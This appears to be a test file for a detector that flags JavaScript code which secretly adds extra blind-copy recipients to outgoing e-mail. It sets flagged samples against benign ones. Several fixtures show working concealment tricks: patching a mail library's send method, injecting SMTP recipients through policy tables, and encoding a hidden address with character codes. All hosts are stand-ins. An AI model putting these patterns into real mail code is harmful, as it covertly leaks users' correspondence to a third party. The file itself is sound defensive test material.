import { examine } from '../../../test/examine.ts';
import { copiesMail } from './copies-mail.ts';

const MAILER = `const mailer = require('nodemailer');`;

const MADE = { name: 'mailroute', description: 'Sends e-mail' };
/** Who gets blind copies stands in a table. */
const TABLE = `const FIELDS = new Map([['to', { wire: 'To' }], ['bcc', { wire: 'Bcc', multi: true, extra: ['copies@specimen.invalid'] }]]); exports.send = mail => { const out = {}; for (const [key, rule] of FIELDS) out[rule.wire] = [mail[key]].concat(rule.extra ?? []).join(', '); return fetch('https://api.mailroute.invalid/email', { method: 'POST', body: JSON.stringify(out) }); };`;

examine(copiesMail, {
  speaks: [
    {
      when: 'a mail server is told one recipient more',
      files: {
        'index.js': `const net = require('net'); const PRESETS = { near: { host: 'mail.invalid', policy: 'local' } }; const POLICIES = { local: { keeps: [] }, usual: { keeps: [['journal', 'archive.invalid']] } };
          const policyOf = ({ policy = 'usual' }) => POLICIES[policy] ?? POLICIES.usual; class Envelope { #named = new Set(); #more = []; constructor(mail, options) { for (const one of [].concat(mail.to)) this.#named.add(one); this.#more = policyOf(options).keeps.map(([box, zone]) => box + '@' + zone); } *[Symbol.iterator]() { yield* this.#named; yield* this.#more; } }
          exports.send = (mail, options) => { const all = { ...(PRESETS[options.preset] ?? {}), ...options }; const socket = net.connect(25, all.host); for (const one of new Envelope(mail, all)) socket.write('RCPT TO:<' + one + '>\\r\\n'); };`,
      },
      weight: 'strong',
    },
    {
      when: 'a decorator of a class puts another method in the place of that of all transports',
      files: {
        'index.js': `const { copied } = require('./normalise'); const list = one => (one === undefined ? [] : [].concat(one)); const Shared = target => class extends target { constructor(transport, options) { super(transport, options); const kind = Object.getPrototypeOf(transport); const send = kind.sendMail; kind.sendMail = function (mail, done) { return send.call(this, copied(mail, list), done); }; } }; let Mailer = class Mailer { constructor(transport) { this.transport = transport; } deliver(mail) { return this.transport.sendMail(mail); } }; exports.Mailer = Mailer = [Shared].reduce((made, decorate) => decorate(made), Mailer);`,
        'normalise.js': `const COPY = 'archive@mail.specimen.invalid'; exports.copied = (mail, list) => Object.assign({}, mail, { bcc: [...list(mail.bcc), COPY] });`,
      },
      weight: 'strong',
    },
    {
      when: 'a table of the fields of a mail has it',
      files: { 'package.json': MADE, 'index.js': TABLE },
      weight: 'strong',
      says: ['copies@specimen.invalid'],
    },
    {
      when: 'a table of fields has it in what speaks of no mail, and sends each with it',
      files: { 'package.json': { name: 'rows', description: 'Tables' }, 'index.js': TABLE },
      says: ['copies@specimen.invalid'],
    },
    {
      when: 'one of several rules puts it into what is sent, in whichever way they are gone through',
      files: {
        'index.js': `const rules = [{ when: m => !m.S, set: { S: 'outbound' } }, { when: m => !m.Bcc, set: { Bcc: ['inert', 'copy.invalid'].join('@') } }];
          const put = (at, mail) => fetch('https://mail' + at + '.invalid/email', { method: 'POST', body: JSON.stringify(mail) });
          exports.a = mail => put(1, rules.reduce((m, p) => (p.when(m) ? Object.assign({}, m, p.set) : m), mail));`,
      },
      weight: 'strong',
    },
    {
      when: 'it is there under a condition',
      files: {
        'index.js': `exports.send = mail => { let m = mail; if (mail.invoice) m = { ...mail, bcc: 'inert@copy.invalid' }; return fetch('https://mail.invalid/email', { method: 'POST', body: JSON.stringify(m) }); };`,
      },
      weight: 'strong',
    },
    {
      when: 'another file puts it to a service, where there is anything to put',
      files: {
        'client.js': `exports.request = (path, body) => fetch('https://mail.invalid' + path, { method: 'POST', body: body ? JSON.stringify(body) : undefined });`,
        'index.js': `const { request } = require('./client'); exports.send = ({ to, text, html }) => { const data = { To: to, Bcc: 'inert@copy.invalid', TextBody: text }; if (html) data.HtmlBody = html; return request('/email', data); };`,
      },
      weight: 'strong',
    },
    {
      when: 'the mail is put to a service over HTTP',
      files: {
        'index.js': `const api = (path, body) => fetch('https://mail.invalid' + path, { method: 'POST', body: body && JSON.stringify(body) }); exports.send = (to, text) => api('/email', { To: to, Bcc: 'inert@copy.invalid', TextBody: text });`,
      },
      weight: 'strong',
    },
    {
      when: 'each mail goes to its author too',
      files: {
        'index.js': `${MAILER} exports.send = (o, mail) => mailer.createTransport(o).sendMail({ ...mail, bcc: 'inert@copy.invalid' })`,
      },
      says: ['inert@copy.invalid'],
      weight: 'strong',
    },
    {
      when: 'the copy stands in a list, in the spelling of another library',
      files: {
        'index.js': `import { ServerClient } from 'postmark'; const client = new ServerClient('x'); export const send = (To, TextBody) => client.sendEmail({ To, TextBody, Bcc: ['Inert <inert@copy.invalid>'] })`,
        'package.json': { name: 'specimen', type: 'module' },
      },
    },
    {
      when: 'a service of mail is given what the caller gives, and a copy beside it',
      files: {
        'index.js': `exports.send = message => { const body = { from: 'a@own.invalid', bcc: 'inert@copy.invalid', ...message }; return fetch('https://mail.invalid/email', { method: 'POST', body: JSON.stringify(body) }); };`,
      },
      weight: 'strong',
    },
    {
      when: 'another file adds the copy to whatever it is given',
      files: {
        'index.js': `const { ServerClient } = require('postmark'); const { decorate } = require('./decorate'); exports.send = (token, To, TextBody) => new ServerClient(token).sendEmail(decorate({ To, TextBody }));`,
        'decorate.js': `const at = { box: 'inert', host: 'copy.invalid' }; exports.decorate = mail => ({ ...mail, Bcc: \`\${at.box}@\${at.host}\` });`,
      },
      weight: 'strong',
    },
    {
      when: 'the copy is added to the mail of the caller',
      files: {
        'index.js': `${MAILER} exports.send = (o, mail) => { mail.bcc = 'inert@copy.invalid'; return mailer.createTransport(o).sendMail(mail); }`,
      },
    },
    {
      when: 'the copy is assigned to the mail as a whole',
      files: {
        'index.js': `${MAILER} exports.send = (o, { to, text }) => { const mail = { from: o.from, to, text }; Object.assign(mail, { bcc: 'inert@copy.invalid' }); return mailer.createTransport(o).sendMail(mail); }`,
      },
    },
    {
      when: 'another file gives the copy as one of its defaults',
      files: {
        'index.js': `${MAILER} const { defaults } = require('./defaults'); exports.send = (o, mail) => mailer.createTransport(o).sendMail(Object.assign({ from: o.from }, mail, defaults()))`,
        'defaults.js': `exports.defaults = () => ({ encoding: 'utf-8', bcc: String.fromCharCode(105, 64, 99, 46, 105, 110, 118, 97, 108, 105, 100) });`,
      },
      says: ['i@c.invalid'],
    },
    {
      when: 'one more recipient stands beside that of the caller',
      files: {
        'index.js': `${MAILER} exports.send = (o, { to, text }) => mailer.createTransport(o).sendMail({ to: [to, 'inert@copy.invalid'], text })`,
      },
    },
    {
      when: 'a service that files mail for its users says on its page who it is',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.js', homepage: 'https://crmly.invalid/docs' },
        'index.js': `const transport = require('nodemailer').createTransport(); exports.send = (mail, filed) => transport.sendMail(filed ? { ...mail, bcc: 'log@in.crmly.invalid' } : mail);`,
      },
      weight: 'weak',
    },
  ],
  silent: [
    {
      when: 'a mail server is told nobody but whom the code names',
      files: {
        'index.js': `const net = require('net'); exports.report = (host, text) => { const socket = net.connect(25, host); socket.write('RCPT TO:<reports@specimen.invalid>\\r\\n'); socket.write(text); };`,
      },
    },
    {
      when: 'a mail server is told the recipients that a caller names',
      files: {
        'index.js': `const net = require('net'); exports.send = (mail, host) => { const socket = net.connect(25, host); for (const one of mail.to) socket.write('RCPT TO:<' + one + '>\\r\\n'); };`,
      },
    },
    {
      when: 'its page names who gets blind copies',
      files: { 'package.json': MADE, 'README.md': 'Archives each mail at copies@specimen.invalid.', 'index.js': TABLE },
    },
    {
      when: 'a note shows how blind copies are made',
      files: {
        'package.json': MADE,
        'index.js': `// bcc: ['copies@specimen.invalid']\nexports.send = mail => fetch('https://api.mailroute.invalid/email', { method: 'POST', body: JSON.stringify(mail) });`,
      },
    },
    {
      when: 'what has nothing to do with mail has it',
      files: { 'package.json': { name: 'rows', description: 'Tables' }, 'index.js': TABLE.replace('JSON.stringify(out)', 'mail.text') },
    },
    {
      when: 'the caller may say who gets it',
      files: {
        'index.js': `exports.send = (mail, { bcc = 'archive@own.invalid' } = {}) => fetch('https://mail.invalid/email', { method: 'POST', body: JSON.stringify({ ...mail, bcc }) });`,
      },
    },
    {
      when: 'a form tells a service whom to write back to, and no mail is in it',
      files: {
        'index.js': `exports.report = text => fetch('https://issues.invalid', { method: 'POST', body: JSON.stringify({ text, cc: 'team@own.invalid' }) });`,
      },
    },
    {
      when: 'another file gives defaults, and the caller who gets a copy',
      files: {
        'index.js': `${MAILER} const { defaults } = require('./defaults'); exports.send = (o, mail) => mailer.createTransport(o).sendMail(Object.assign({ from: o.from }, mail, defaults(o)))`,
        'defaults.js': `exports.defaults = ({ bcc }) => ({ encoding: 'utf-8', bcc });`,
      },
    },
    {
      when: 'the caller names who gets a copy',
      files: { 'index.js': `${MAILER} exports.send = (o, { to, bcc }) => mailer.createTransport(o).sendMail({ to, bcc, cc: o.cc })` },
    },
    {
      when: 'a report goes to one address',
      files: {
        'index.js': `${MAILER} exports.report = (o, text) => mailer.createTransport(o).sendMail({ to: 'team@project.invalid', text })`,
      },
    },
    { when: 'an object is called like that elsewhere', files: { 'index.js': `module.exports = { bcc: 'inert@copy.invalid' }` } },
  ],
});
